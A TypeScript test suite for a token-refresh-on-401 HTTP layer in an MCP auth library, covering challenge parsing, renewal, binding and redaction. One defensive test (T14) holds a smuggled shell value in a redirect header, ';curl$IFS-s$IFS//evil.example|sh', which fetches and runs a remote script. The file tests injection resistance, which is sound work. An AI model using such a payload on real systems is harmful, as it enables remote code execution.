import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type AccessToken, authFetch, layer, type Refusal, type Road, secrets, type TokenSource } from '@mcpauth/core'
import { Agent, request } from 'undici'
import { afterEach, describe, expect, test } from 'vitest'
import { withRefreshOn401 } from '../src/index.ts'

type Answer = (request: IncomingMessage, response: ServerResponse) => void

const open: Array<() => Promise<unknown>> = []
afterEach(async () => {
  for (const close of open.splice(0)) await close()
})

/** A server on loopback that keeps the Authorization of every request. */
async function serve(answer: Answer): Promise<{ url: URL; seen: Array<string | undefined> }> {
  const seen: Array<string | undefined> = []
  const server = createServer((incoming, response) => {
    seen.push(incoming.headers.authorization)
    incoming.resume().on('end', () => answer(incoming, response))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  open.push(() => {
    server.closeAllConnections()
    return new Promise((resolve) => server.close(resolve))
  })
  return { url: new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`), seen }
}

const bearer = (generation: number, origin: AccessToken['origin'] = 'stored'): AccessToken => ({
  value: `token-${generation}`,
  scheme: 'Bearer',
  generation,
  origin
})

/** A source that gives the tokens of a list, one per renewal, and keeps what it was asked. */
function source(
  first: AccessToken | undefined,
  ...next: AccessToken[]
): TokenSource & { refusals: Refusal[]; token: AccessToken | undefined; road?: Road } {
  const made: ReturnType<typeof source> = {
    refusals: [],
    token: first,
    current: () => made.token,
    attach: (road) => {
      made.road = road
    },
    async renew(refusal) {
      made.refusals.push(refusal)
      made.token = next.shift() ?? made.token
      return made.token as AccessToken
    }
  }
  return made
}

/** Refuses everything but one token. */
const takes =
  (token: string, refusal: (response: ServerResponse) => void = (response) => response.writeHead(401)): Answer =>
  (incoming, response) => {
    if (incoming.headers.authorization === `Bearer ${token}`) response.writeHead(200)
    else refusal(response)
    response.end('the answer')
  }

async function post(url: URL, tokens: TokenSource): Promise<{ status: number; text: string }> {
  await using fetch = authFetch(withRefreshOn401(url, tokens))
  const response = await fetch(url, { method: 'POST', body: 'x' })
  return { status: response.status, text: await response.text() }
}

describe('which answers ask a source for what', () => {
  const table: Array<[status: number, challenge: string | undefined, cause: Refusal['cause'] | undefined]> = [
    [401, undefined, 'token'],
    [401, 'Bearer', 'token'],
    [401, 'Bearer error="invalid_token"', 'token'],
    [401, 'Basic realm="x", Bearer error="invalid_token"', 'token'],
    [401, 'DPoP error="use_dpop_nonce"', 'nonce'],
    [403, 'Bearer error="insufficient_scope", scope="write"', 'scope'],
    [401, 'Basic realm="x"', undefined],
    [401, 'Negotiate', undefined],
    [403, undefined, undefined],
    [403, 'Bearer error="access_denied"', undefined],
    [403, 'Basic error="insufficient_scope"', undefined],
    [400, 'Bearer error="invalid_token"', undefined],
    [500, 'Bearer error="invalid_token"', undefined],
    [503, undefined, undefined]
  ]
  test.each(table)('N3 %s with %s: %s', async (status, challenge, cause) => {
    const { url, seen } = await serve(
      takes('token-2', (response) => response.writeHead(status, challenge === undefined ? {} : { 'www-authenticate': challenge }))
    )
    const tokens = Object.assign(source(bearer(1), bearer(2)), { schemes: ['bearer', 'dpop'] })
    const answer = await post(url, tokens)
    expect(tokens.refusals.map((refusal) => refusal.cause)).toEqual(cause ? [cause] : [])
    expect(answer).toEqual({ status: cause ? 200 : status, text: 'the answer' })
    expect(seen).toEqual(cause ? ['Bearer token-1', 'Bearer token-2'] : ['Bearer token-1'])
  })

  test('a source is told everything it needs: the token, the challenges it serves, the request', async () => {
    const { url } = await serve(
      takes('token-2', (response) => response.writeHead(401, { 'www-authenticate': 'Basic realm="x", Bearer scope="a b"' }))
    )
    const tokens = source(bearer(1), bearer(2))
    await post(url, tokens)
    expect(tokens.refusals).toMatchObject([
      {
        status: 401,
        token: bearer(1),
        accepted: false,
        challenges: [{ scheme: 'bearer', parameters: { scope: 'a b' } }],
        request: { method: 'POST', url }
      }
    ])
  })
})

describe('when a source is asked', () => {
  test('T7 a token that was replaced meanwhile is used without asking', async () => {
    const tokens = source(bearer(1))
    const { url, seen } = await serve((incoming, response) => {
      tokens.token = bearer(2)
      takes('token-2')(incoming, response)
    })
    expect((await post(url, tokens)).status).toBe(200)
    expect(tokens.refusals).toEqual([])
    expect(seen).toEqual(['Bearer token-1', 'Bearer token-2'])
  })

  test('a 403 for a scope is always asked about, also when the token was replaced meanwhile', async () => {
    const tokens = source(bearer(1), bearer(3))
    const { url, seen } = await serve((incoming, response) => {
      if (incoming.headers.authorization === 'Bearer token-1') tokens.token = bearer(2)
      takes('token-3', (denied) => denied.writeHead(403, { 'www-authenticate': 'Bearer error="insufficient_scope", scope="s"' }))(
        incoming,
        response
      )
    })
    expect((await post(url, tokens)).status).toBe(200)
    expect(tokens.refusals).toHaveLength(1)
    expect(seen).toEqual(['Bearer token-1', 'Bearer token-3'])
  })

  test.each([
    [403, 'Bearer error="insufficient_scope"'],
    [401, 'DPoP error="use_dpop_nonce"']
  ])('a token that was just granted may lack a scope or a nonce: %s %s is asked about', async (status, challenge) => {
    const { url } = await serve(takes('token-2', (response) => response.writeHead(status, { 'www-authenticate': challenge })))
    const tokens = Object.assign(source(bearer(1, 'granted'), bearer(2)), { schemes: ['bearer', 'dpop'] })
    expect((await post(url, tokens)).status).toBe(200)
    expect(tokens.refusals).toMatchObject([{ accepted: false }])
  })

  test('T7 a token that came while a request went without one is used without asking', async () => {
    const tokens = source(undefined)
    const { url, seen } = await serve((incoming, response) => {
      tokens.token = bearer(1)
      takes('token-1')(incoming, response)
    })
    expect((await post(url, tokens)).status).toBe(200)
    expect([seen, tokens.refusals]).toEqual([[undefined, 'Bearer token-1'], []])
  })

  test('T19 the same token refused a second time for the same cause is an error that says so', async () => {
    const { url, seen } = await serve(takes('never'))
    await expect(post(url, source(bearer(1)))).rejects.toMatchObject({
      code: 'MCPAUTH_TOKEN_REFUSED',
      message: expect.stringMatching(/answered 401 to its token again$/)
    })
    expect(seen).toHaveLength(2)
  })

  test('T19 a token that was just granted and is refused at once is an error; nobody is asked again', async () => {
    const { url, seen } = await serve(
      takes('never', (response) => response.writeHead(401, { 'www-authenticate': 'Bearer error_description="wrong audience"' }))
    )
    const tokens = source(bearer(1), bearer(2, 'granted'))
    await expect(post(url, tokens)).rejects.toMatchObject({
      code: 'MCPAUTH_TOKEN_REFUSED',
      message: expect.stringMatching(/although it has just been issued.*wrong audience/),
      hint: expect.stringContaining(`login ${url.href}`)
    })
    expect(seen).toHaveLength(2)
    expect(tokens.refusals).toHaveLength(1)
  })

  test('the command to run names the server that was logged in to, also when it refuses at another path', async () => {
    const { url } = await serve(takes('never'))
    await using fetch = authFetch(withRefreshOn401(url, source(bearer(1, 'granted')), { bind: 'origin' }))
    await expect(fetch(new URL('/messages?session=1', url), { method: 'POST', body: '{}' })).rejects.toMatchObject({
      code: 'MCPAUTH_TOKEN_REFUSED',
      hint: expect.stringMatching(new RegExp(`login ${url.href}$`))
    })
  })

  test('a granted token that has worked and is refused later is renewed', async () => {
    let taken = 'token-1'
    const { url } = await serve((incoming, response) => takes(taken)(incoming, response))
    const tokens = source(bearer(1, 'granted'), bearer(2))
    await using fetch = authFetch(withRefreshOn401(url, tokens))
    expect((await fetch(url)).status).toBe(200)
    taken = 'token-2'
    expect((await fetch(url)).status).toBe(200)
    expect(tokens.refusals).toMatchObject([{ accepted: true, token: { generation: 1 } }])
  })

  test.each([
    [399, true],
    [400, false],
    [500, false]
  ])('an answer of %s shows that the server takes the token: %s', async (status, accepted) => {
    let first = true
    const { url } = await serve((_incoming, response) => {
      response.writeHead(first ? status : 401).end()
      first = false
    })
    const tokens = source(bearer(1))
    await using fetch = authFetch(withRefreshOn401(url, tokens))
    await fetch(url)
    await fetch(url).catch(() => undefined)
    expect(tokens.refusals[0]?.accepted).toBe(accepted)
  })

  test('without a token the request goes as it is, and the challenge decides', async () => {
    const { url, seen } = await serve(takes('token-1'))
    const tokens = source(undefined, bearer(1))
    expect((await post(url, tokens)).status).toBe(200)
    expect(seen).toEqual([undefined, 'Bearer token-1'])
    expect(tokens.refusals).toMatchObject([{ token: undefined, accepted: false }])
  })

  test('a token that must be awaited is put on the request, and its source may fail', async () => {
    const { url, seen } = await serve(takes('token-1'))
    expect((await post(url, { current: async () => bearer(1), renew: async () => bearer(1) })).status).toBe(200)
    expect(seen).toEqual(['Bearer token-1'])
    const failing = { current: () => Promise.reject(new Error('no token today')), renew: async () => bearer(1) }
    await expect(post(url, failing)).rejects.toMatchObject({ cause: { message: 'no token today' } })
    expect(seen).toHaveLength(1)
  })
})

describe('the layer', () => {
  test('says what it sets', () => {
    expect(withRefreshOn401('https://mcp.example.com', source(undefined))[layer]).toMatchObject({
      kind: 'credential',
      sets: ['authorization']
    })
    expect(withRefreshOn401('https://mcp.example.com', { ...source(undefined), schemes: ['DPoP'] })[layer]?.sets).toEqual([
      'authorization',
      'dpop'
    ])
  })

  test.each([undefined, null, {}, { current: () => undefined }, { renew: async () => bearer(1) }])(
    'refuses, at construction, what is no source: %s',
    (tokens) => {
      expect(() => withRefreshOn401('https://mcp.example.com', tokens as never)).toThrow(
        expect.objectContaining({ code: 'MCPAUTH_INVALID_OPTION', message: expect.stringContaining('tokens') })
      )
    }
  )

  test("in undici's own compose, a source gets what is behind the layer as its network", async () => {
    const { url } = await serve((_incoming, response) => response.end('reached'))
    const tokens = source(bearer(1))
    const agent = new Agent()
    open.push(() => agent.close())
    const composed = agent.compose(withRefreshOn401(url, tokens) as never)
    expect(await (await request(url, { dispatcher: composed })).body.text()).toBe('reached')
    expect(tokens.road).toMatchObject({ bind: 'path', closed: { aborted: false } })
    const answered = new Promise<number>((resolve, reject) => {
      tokens.road?.network(
        { origin: url.origin, path: '/elsewhere', method: 'GET' },
        {
          onRequestStart: () => undefined,
          onResponseData: () => undefined,
          onResponseEnd: () => undefined,
          onResponseStart: (_controller, status) => resolve(status),
          onResponseError: (_controller, error) => reject(error)
        }
      )
    })
    expect(await answered).toBe(200)
  })

  test('is bound to its path, and to the origin when told so', async () => {
    const { url, seen } = await serve((_incoming, response) => response.end())
    const tokens = source(bearer(1))
    await using narrow = authFetch(withRefreshOn401(url, tokens))
    await using wide = authFetch(withRefreshOn401(url, tokens, { bind: 'origin' }))
    await narrow(new URL('/other', url))
    await wide(new URL('/other', url))
    expect(seen).toEqual([undefined, 'Bearer token-1'])
  })
})

test('T14: a server that sends the request on to a path of its choice does not get it into a command', async () => {
  const { url } = await serve((incoming, response) => {
    if (incoming.url === '/mcp') response.writeHead(307, { location: '/mcp/;curl$IFS-s$IFS//evil.example|sh' }).end()
    else response.writeHead(401).end()
  })
  const error = await post(url, source(bearer(1, 'granted'))).catch((reason: unknown) => reason)
  expect(error).toMatchObject({ code: 'MCPAUTH_TOKEN_REFUSED', hint: expect.stringMatching(new RegExp(`login ${url.href}$`)) })
})

test('T13: what a source gives is a secret, and so is what it gives next: a server that says it back does not get it into an error', async () => {
  const value = (name: string): AccessToken => ({ ...bearer(name.length), value: `the-${name}-token-of-a-source` })
  const { url, seen } = await serve((incoming, response) => {
    const said = incoming.headers.authorization
    response.writeHead(401, { 'www-authenticate': `Bearer error="invalid_token", error_description="not ${said}"` }).end()
  })
  await expect(post(url, source(value('first'), value('second')))).rejects.toThrow('it says: not Bearer [REDACTED:access_token]')
  expect(seen.slice(0, 2)).toEqual(['Bearer the-first-token-of-a-source', 'Bearer the-second-token-of-a-source'])
  expect(secrets.redact('the-first-token-of-a-source')).toBe('[REDACTED:access_token]')
})
